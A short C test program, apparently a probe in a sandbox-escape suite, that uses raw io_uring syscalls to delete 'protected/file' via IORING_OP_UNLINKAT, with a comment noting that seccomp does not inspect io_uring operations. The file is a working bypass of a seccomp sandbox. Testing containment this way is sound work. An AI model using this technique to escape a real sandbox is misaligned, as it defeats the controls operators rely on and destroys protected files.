/* write_io_uring: unlink protected/file with IORING_OP_UNLINKAT, which the
 * kernel performs in io_uring context where seccomp never looks.
 * Judged by: protected/ changing. */
#include "common.h"
#include <linux/io_uring.h>
#include <sys/mman.h>
int main(void)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	int ring = check(syscall(SYS_io_uring_setup, 4, &p), "io_uring_setup");
	if (ring < 0)
		return 1;
	size_t sqlen = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cqlen = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	char *sq = mmap(0, sqlen, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	char *cq = mmap(0, cqlen, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
	struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
					 MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		return note("mmap: %s", strerror(errno)), 1;
	struct io_uring_sqe *e = &sqes[0];
	memset(e, 0, sizeof *e);
	e->opcode = IORING_OP_UNLINKAT;
	e->fd = AT_FDCWD;
	e->addr = (unsigned long)"protected/file";
	e->user_data = 7;
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
	unsigned mask = *(unsigned *)(sq + p.sq_off.ring_mask);
	unsigned *array = (unsigned *)(sq + p.sq_off.array);
	array[*tail & mask] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (check(syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0), "io_uring_enter") < 0)
		return 1;
	unsigned head = __atomic_load_n((unsigned *)(cq + p.cq_off.head), __ATOMIC_ACQUIRE);
	unsigned cmask = *(unsigned *)(cq + p.cq_off.ring_mask);
	struct io_uring_cqe *c = &((struct io_uring_cqe *)(cq + p.cq_off.cqes))[head & cmask];
	note("IORING_OP_UNLINKAT: %s", c->res < 0 ? strerror(-c->res) : "ok");
	return 0;
}
